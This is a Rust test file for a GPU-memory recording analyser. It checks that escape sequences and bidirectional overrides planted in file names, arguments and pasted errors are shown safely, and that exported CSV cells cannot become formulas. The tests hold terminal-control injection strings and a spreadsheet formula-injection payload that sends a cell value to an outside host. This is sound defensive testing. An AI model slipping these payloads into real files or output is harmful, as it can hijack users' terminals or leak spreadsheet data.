//! Nothing in a file, an argument or an error can control the terminal or spreadsheet that shows it, and JSON has the file's own
//! data.

use std::io::Write;
use std::path::Path;
use std::process::{Output, Stdio};

use serde_json::Value;
use vramscope_core::diagnose::export;
use vramscope_core::formats;
use vramscope_core::model::{Progress, Recording};
use vramscope_core::units::is_steering;

use super::cli::{json, program, run, sample, stderr, stdout};

/// A window title, a cleared screen, a carriage return, a direction mark, a C1 colour code.
const EVIL: &str = "\x1b]0;owned\x07\x1b[2Jevil\r\u{202e}\u{9b}31m";

/// A sample with changed texts in its stacks and settings, saved as a snapshot in a folder.
fn changed(name: &str, to: &Path, change: impl Fn(&str) -> String + Copy) -> String {
    let mut recording: Recording = formats::open(Path::new(&sample(name)), &Progress::new()).unwrap();
    recording.stacks.change_texts(|_, text| change(text));
    for device in &mut recording.devices {
        device.settings.raw.push(("PYTORCH_NAME".to_owned(), change("x")));
    }
    export::save(&recording, to, &[], true).unwrap();
    to.display().to_string()
}

fn assert_shown(args: &[&str], output: &Output) {
    let told = String::from_utf8(output.stdout.clone()).unwrap() + &stderr(output);
    assert!(!told.is_empty(), "{args:?} said nothing");
    assert!(!told.contains(is_steering), "{args:?}: {told:?}");
}

#[test]
fn names_in_a_file_are_shown_to_the_terminal_and_not_obeyed() {
    let folder = tempfile::tempdir().unwrap();
    let mut seen = 0;
    for name in ["expandable_oom.pickle", "leak.pickle"] {
        // The file's name is as malicious as its contents.
        let file = changed(name, &folder.path().join(format!("{EVIL}{name}")), |text| format!("{EVIL}{text}"));
        for args in [
            vec!["summary", &file],
            vec!["state", &file, "--peak"],
            vec!["oom", &file],
            vec!["findings", &file],
            vec!["leaks", &file],
            vec!["flame", &file],
            vec!["flame", &file, "--by", "module"],
            vec!["allocations", &file, "--limit", "5"],
            vec!["diff", &file, &file],
            vec!["ranks", folder.path().to_str().unwrap()],
            vec!["check", &file, "--max-peak", "1MiB"],
            vec!["whatif", &file, "--conf", "default"],
        ] {
            let output = run(&args);
            assert_shown(&args, &output);
            seen += usize::from(stdout(&output).contains("\\u001b[2Jevil\\u000d\\u202e\\u009b31m"));
        }
    }
    assert!(seen >= 12, "only {seen} answers name what is in the file");
}

#[test]
fn errors_and_arguments_are_shown_and_not_obeyed() {
    let evil = format!("{EVIL}.pickle");
    let (leak, size) = (sample("leak.pickle"), format!("size>{evil}"));
    for args in [
        vec!["summary", &evil],
        vec![evil.as_str()],
        vec!["summary", "--", &evil],
        vec!["leaks", &leak, &evil],
        vec!["leaks", &leak, "--device", &evil],
        vec!["whatif", &leak, "--conf", &evil],
        vec!["allocations", &leak, "--where", &size],
        vec!["export", &leak, "--to", &evil, "x"],
        vec!["summary", "--option", &evil],
        vec!["run", &evil],
        vec!["record", &evil],
    ] {
        let output = run(&args);
        assert_ne!(output.status.code(), Some(0), "{args:?}");
        assert_shown(&args, &output);
    }
    // The sentence is otherwise complete.
    let answer = stderr(&run(&["whatif", &leak, "--conf", "a\x1b[2Jb:1"]));
    assert!(answer.contains("value 'a\\u001b[2Jb:1' for") && answer.contains("\"a\\u001b\" is not a setting"), "{answer}");
    // A message that somebody pasted.
    let mut child = program(&["explain"]).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let text = format!(
        "{EVIL}: torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. {EVIL} GPU 0 has a total capacity of 79.10 GiB of which 1.02 GiB is free.\n"
    );
    child.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
    assert_shown(&["explain"], &child.wait_with_output().unwrap());
}

#[test]
fn json_shows_nothing_that_is_obeyed_and_is_the_same_data() {
    let folder = tempfile::tempdir().unwrap();
    let file = changed("expandable_oom.pickle", &folder.path().join("evil.pickle"), |text| format!("{EVIL}{text}"));
    for args in [vec!["oom", &file, "--json"], vec!["state", &file, "--end", "--json"], vec!["flame", &file, "--json"]] {
        let output = run(&args);
        assert_shown(&args, &output);
        let value: Value = serde_json::from_slice(&output.stdout).unwrap();
        assert!(has_text(&value, EVIL), "{args:?}: the names are not as they are in the file");
    }
}

fn has_text(value: &Value, text: &str) -> bool {
    match value {
        Value::String(s) => s.contains(text),
        Value::Array(list) => list.iter().any(|v| has_text(v, text)),
        Value::Object(map) => map.values().any(|v| has_text(v, text)),
        _ => false,
    }
}

#[test]
fn words_of_a_vendor_are_never_put_into_a_recording_s_names() {
    let folder = tempfile::tempdir().unwrap();
    let nccl = "ProcessGroupNCCL.cpp nvidia-smi cudaMalloc torch.cuda.x PYTORCH_CUDA_ALLOC_CONF";
    let file = folder.path().join("rocm.pickle");
    let mut recording = formats::open(Path::new(&sample("expandable_oom.pickle")), &Progress::new()).unwrap();
    recording.stacks.change_texts(|_, text| format!("{text} {nccl}"));
    let settings = &mut recording.devices[0].settings.raw;
    settings.retain(|(key, _)| !key.contains("PYTORCH"));
    settings.push(("PYTORCH_HIP_ALLOC_CONF".to_owned(), "expandable_segments:True".to_owned()));
    export::save(&recording, &file, &[], true).unwrap();
    let file = file.display().to_string();
    let report = json(&["oom", &file, "--json"]);
    let stack = report["ooms"][0]["stack"].as_array().unwrap();
    assert!(!stack.is_empty() && stack.iter().all(|line| line.as_str().unwrap().ends_with(nccl)), "{stack:?}");
    let remedies = report["ooms"][0]["remedies"].to_string();
    assert!(remedies.contains("PYTORCH_HIP_ALLOC_CONF=") && !remedies.contains("PYTORCH_CUDA"), "{remedies}");
    let said = stdout(&run(&["oom", &file]));
    assert!(said.contains(nccl) && said.contains("PYTORCH_HIP_ALLOC_CONF="), "{said}");
    let found = stdout(&run(&["findings", &file]));
    assert!(!found.contains("RCCL.cpp"), "{found}");
}

#[test]
fn no_cell_of_a_csv_file_steers_a_terminal() {
    let folder = tempfile::tempdir().unwrap();
    let file = changed("leak.pickle", &folder.path().join("f.pickle"), |text: &str| format!("\x1b[2J\r\u{202e}{text}"));
    let out = folder.path().join("stacks.csv").display().to_string();
    assert!(run(&["export", &file, "--to", "csv", &out, "--table", "stacks"]).status.success());
    let csv = std::fs::read_to_string(&out).unwrap();
    assert!(csv.contains("\\u001b[2J\\u000d\\u202e") && !csv.contains(['\x1b', '\r', '\u{202e}']), "{}", &csv[..400]);
}

#[test]
fn no_cell_of_a_csv_file_is_a_formula() {
    let folder = tempfile::tempdir().unwrap();
    let text = |text: &str| format!("=HYPERLINK(\"http://x/\"&A1)|{text}");
    let file = changed("leak.pickle", &folder.path().join("f.pickle"), text);
    let out = folder.path().join("stacks.csv").display().to_string();
    let output = run(&["export", &file, "--to", "csv", &out, "--table", "stacks"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let csv = std::fs::read_to_string(&out).unwrap();
    assert!(csv.contains("\"'=HYPERLINK(") && !csv.contains("\"=") && !csv.contains(",="), "{}", &csv[..400]);
}
